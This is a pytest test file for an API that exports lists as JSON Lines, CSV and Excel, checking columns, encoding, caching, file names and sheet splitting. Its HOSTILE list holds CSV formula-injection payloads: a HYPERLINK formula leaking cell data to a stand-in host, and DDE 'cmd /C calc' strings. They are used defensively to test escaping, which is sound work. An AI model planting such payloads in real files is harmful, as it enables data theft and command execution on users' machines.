"""Lists as files: JSON Lines, CSV and Excel workbooks."""

import csv
import io
import json
import zipfile

import duckdb
import openpyxl
import pandas
import pytest

from organizations.models import Presence
from publishing import services
from publishing.api import formats
from publishing.api.formats import workbooks
from publishing.api.formats.tables import Table
from publishing.models import Shelf

LIST = "/api/v1/organizations/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+7 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.fixture
def several(make_organization, source):
    """Three organizations: one at work in two countries, one with Cyrillic letters, one over two lines."""
    made = [
        make_organization("Circle A", summary_en='Meets, and "talks";\nthen meets again.'),
        make_organization("Ковчег", summary_ru="Помогает уехавшим."),
        make_organization("Zigzag", kind="foundation"),
    ]
    for country in ("GE", "NA"):
        Presence.objects.create(
            organization=made[0], country=country, role="active", source=source, locator="p. 3"
        )
    services.publish_together(made, reason="For the tests.")
    return made


def text_of(answer):
    assert answer.status_code == 200, answer.getvalue()
    return answer.getvalue().decode("utf-8-sig")


def table_of(answer):
    return list(csv.DictReader(io.StringIO(text_of(answer), newline="")))


def workbook_of(answer):
    book = openpyxl.load_workbook(io.BytesIO(answer.getvalue()))
    return [[cell.value for cell in row] for sheet in book for row in sheet.iter_rows()]


def test_json_lines_are_the_stored_documents_of_the_whole_list(reader, several):
    answer = reader.get(f"{LIST}?format=jsonl&page_size=1")
    lines = text_of(answer).splitlines()

    assert answer["Content-Type"] == "application/x-ndjson"
    assert [json.loads(line)["name"] for line in lines] == ["Circle A", "Ковчег", "Zigzag"]
    assert json.loads(lines[0]) == reader.get(f"{LIST}{several[0].pk}/").json()
    assert answer["X-Total-Count"] == "3"


def test_only_the_members_asked_for_stand_in_a_file(reader, several):
    lines = text_of(reader.get(f"{LIST}?format=jsonl&fields=name,kind&kind=foundation"))
    (row,) = table_of(reader.get(f"{LIST}?format=csv&fields=presences,name,slug&country=GE"))

    assert lines == '{"name":"Zigzag","kind":"foundation"}\n'
    assert [*row] == ["countries", "cities", "presence_roles", "presences", "name", "slug"]
    assert sorted(row["countries"].split("; ")) == ["GE", "NA"]


def test_a_table_has_one_row_for_each_record_with_lists_in_one_cell(reader, several):
    rows = table_of(reader.get(f"{LIST}?format=csv"))

    assert [row["name"] for row in rows] == ["Circle A", "Ковчег", "Zigzag"]
    assert sorted(rows[0]["countries"].split("; ")) == ["GE", "NA"]
    assert (rows[0]["presences"], rows[1]["presences"]) == ("2", "0")
    assert rows[0]["summary"] == 'Meets, and "talks";\nthen meets again.'
    assert rows[1]["summary_ru"] == "Помогает уехавшим."
    assert rows[2]["edition"] == "1"


def test_pandas_and_duckdb_read_a_table_as_it_comes(reader, several, tmp_path):
    file = tmp_path / "list.csv"
    file.write_bytes(reader.get(f"{LIST}?format=csv").getvalue())
    frame = pandas.read_csv(file, keep_default_na=False, na_values=[""])
    names = duckdb.sql(f"SELECT id, name FROM read_csv('{file}') ORDER BY name").fetchall()

    assert [*frame.columns[:3]] == ["id", "url", "name"]
    assert [*frame["name"]] == ["Circle A", "Ковчег", "Zigzag"]
    assert {pk for pk, _ in names} == {each.pk for each in several}
    pages = pandas.read_excel(io.BytesIO(reader.get(f"{LIST}?format=xlsx").getvalue()))
    assert pages["countries"][0] == frame["countries"][0]


def test_a_table_says_that_it_is_utf_8_so_that_excel_reads_cyrillic(reader, several):
    answer = reader.get(f"{LIST}?format=csv")

    assert answer["Content-Type"].startswith("text/csv; charset=utf-8")
    assert answer.getvalue().startswith("\ufeffid,".encode())


def test_a_workbook_has_the_same_rows(reader, several):
    answer = reader.get(f"{LIST}?format=xlsx")
    rows = workbook_of(answer)
    (kept,) = [dict(zip(rows[0], row, strict=True)) for row in rows if row[2] == "Ковчег"]

    assert answer["Content-Type"] == XLSX
    assert len(rows) == 4
    assert (kept["summary_ru"], kept["edition"]) == ("Помогает уехавшим.", 1)


def test_the_same_state_gives_the_same_file(reader, several):
    for name in ("jsonl", "csv", "xlsx"):
        one = reader.get(f"{LIST}?format={name}")
        assert one.getvalue() == reader.get(f"{LIST}?format={name}").getvalue()
        known = reader.get(f"{LIST}?format={name}", headers={"If-None-Match": one["ETag"]})
        assert (known.status_code, known.getvalue()) == (304, b"")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_run_as_a_formula(reader, make_organization, text):
    services.publish(make_organization(text), by=None, reason="For the tests.")
    (row,) = table_of(reader.get(f"{LIST}?format=csv"))
    book = openpyxl.load_workbook(io.BytesIO(reader.get(f"{LIST}?format=xlsx").getvalue()))
    (cell,) = [cell for cell in book.active[2] if cell.column_letter == "C"]

    assert row["name"] == f"'{text}"
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_numbers_stay_numbers_also_below_zero():
    columns = [("value", "value")]
    rows = [{"value": -5}, {"value": "-5.5"}, {"value": True}, {"value": None}, {"value": "-a"}]
    written = b"".join(formats.writing.csv_lines(Table(columns), iter(rows))).decode()

    assert written == '\ufeffvalue\r\n-5\r\n-5.5\r\ntrue\r\n""\r\n\'-a\r\n'


def test_an_empty_list_is_a_file_with_headers_alone(reader):
    assert text_of(reader.get(f"{LIST}?format=jsonl")) == ""
    assert text_of(reader.get(f"{LIST}?format=csv")).startswith("id,url,name,")
    assert len(text_of(reader.get(f"{LIST}?format=csv")).splitlines()) == 1
    assert len(workbook_of(reader.get(f"{LIST}?format=xlsx"))) == 1
    assert reader.get(f"{LIST}?format=csv")["Content-Disposition"].endswith('organizations-empty.csv"')


def test_a_file_is_named_after_what_it_holds(reader, several):
    day = Shelf.objects.get().published_at.date().isoformat()

    def name(query):
        return reader.head(f"{LIST}?{query}")["Content-Disposition"]

    assert name("format=csv&country=ge") == f'attachment; filename="atlas-organizations-country-ge-{day}.csv"'
    assert name("format=xlsx&q=Ковчег") == f'attachment; filename="atlas-organizations-q-Kovcheg-{day}.xlsx"'
    assert name('format=jsonl&q="../..\\x').count("/") == 0
    long = name("format=csv&" + "&".join(f"city=town{n:03}" for n in range(90)))
    assert len(long) < 200
    assert long.endswith(f'-etc-{day}.csv"')


def test_claims_marked_as_mistaken_stand_in_no_table(reader, published, source):
    Presence.objects.create(
        organization=published, country="AM", role="active", rank="deprecated", source=source, locator="p. 4"
    )
    services.publish(published, by=None, reason="For the tests.")

    assert table_of(reader.get(f"{LIST}?format=csv"))[0]["countries"] == ""


def test_a_file_shows_one_state_while_records_are_published(reader, several, monkeypatch):
    monkeypatch.setattr("publishing.api.formats.reading.AT_A_TIME", 1)
    monkeypatch.setattr("publishing.api.formats.writing.PIECE", 1)
    answer = reader.get(f"{LIST}?format=jsonl&fields=name")
    pieces = answer.streaming_content
    got = [next(pieces)]
    several[2].names.update(text="Aardvark")
    services.publish(several[2], by=None, reason="In between.")
    got += [*pieces]

    assert [json.loads(line)["name"] for line in got] == ["Circle A", "Ковчег", "Zigzag"]
    assert len(text_of(reader.get(f"{LIST}?format=jsonl")).splitlines()) == 3


def test_a_file_of_the_past_is_as_it_was(reader, several):
    then = Shelf.objects.get().published_at.isoformat().replace("+00:00", "Z")
    before = text_of(reader.get(LIST, {"format": "csv", "as_of": then}))
    several[2].names.update(text="Aardvark")
    services.publish(several[2], by=None, reason="Renamed.")

    assert text_of(reader.get(LIST, {"format": "csv", "as_of": then})) == before
    assert "Aardvark" in text_of(reader.get(LIST, {"format": "csv"}))


@pytest.mark.parametrize("collection", ["sources", "estimates", "questions", "countries", "groups", "facts"])
@pytest.mark.parametrize("name", ["jsonl", "csv", "xlsx"])
def test_every_list_can_be_had_as_a_file(reader, question, country, group, collection, name):
    listed = reader.get(f"/api/v1/{collection}/").json()
    answer = reader.get(f"/api/v1/{collection}/?format={name}")

    assert answer["X-Total-Count"] == str(listed["count"])
    first = listed["results"][0]["id"]
    assert first in (str(workbook_of(answer)) if name == "xlsx" else text_of(answer))
    assert f"atlas-{collection}-" in answer["Content-Disposition"]


def test_a_fact_is_a_row_with_its_values_in_columns(reader, several):
    rows = table_of(reader.get("/api/v1/facts/?format=csv&list=presences"))

    assert {(row["about_name"], row["country"], row["role"], row["locator"]) for row in rows} == {
        ("Circle A", "GE", "active", "p. 3"),
        ("Circle A", "NA", "active", "p. 3"),
    }


def test_editions_and_code_lists_are_files_too(reader, several):
    answer = reader.get(f"{LIST}{several[0].pk}/editions/?format=csv")
    editions = table_of(answer)
    codes = table_of(reader.get("/api/v1/codelists/?format=csv"))
    one = table_of(reader.get("/api/v1/codelists/organization_kind/", headers={"Accept": "text/csv"}))

    assert [row["number"] for row in editions] == ["1"]
    assert answer["X-Total-Count"] == "1"
    assert {"organization_kind", "measure"} <= {row["list"] for row in codes}
    assert "community" in [row["code"] for row in one]


def test_what_does_not_fit_into_a_sheet_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr(workbooks, "ROWS", 3)
    rows = [{"id": n, "text": "x" * 40_000 if n == 1 else "short"} for n in range(5)]
    content = b"".join(workbooks.workbook(Table([("id", "id"), ("text", "text")]), iter(rows), title="x"))
    book = openpyxl.load_workbook(io.BytesIO(content))

    assert [[row[0].value for row in sheet.iter_rows()] for sheet in book] == [
        ["id", 0, 1],
        ["id", 2, 3],
        ["id", 4],
    ]
    cut = book.worksheets[0]["B3"].value
    assert len(cut) == 32_767
    assert cut.endswith("the formats csv and jsonl have all of it]")


def test_a_sheet_that_grows_too_large_for_excel_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr(workbooks, "BYTES", 40_000)
    monkeypatch.setattr(workbooks, "LOOK", 10)
    rows = [{"id": n, "text": str(n) * 500} for n in range(200)]
    content = b"".join(workbooks.workbook(Table([("id", "id"), ("text", "text")]), iter(rows), title="x"))
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen = [row[0].value for sheet in book for row in sheet.iter_rows(min_row=2)]

    assert len(book.worksheets) > 2
    assert seen == [*range(200)]


def test_a_workbook_tells_no_time_and_no_name_of_a_machine():
    content = b"".join(workbooks.workbook(Table([("id", "id")]), iter([{"id": 1}]), title="a list"))
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert {entry.date_time[0] for entry in book.infolist()} == {1980}
        assert b"2022-02-24T00:00:00Z</dcterms:modified>" in book.read("docProps/core.xml")
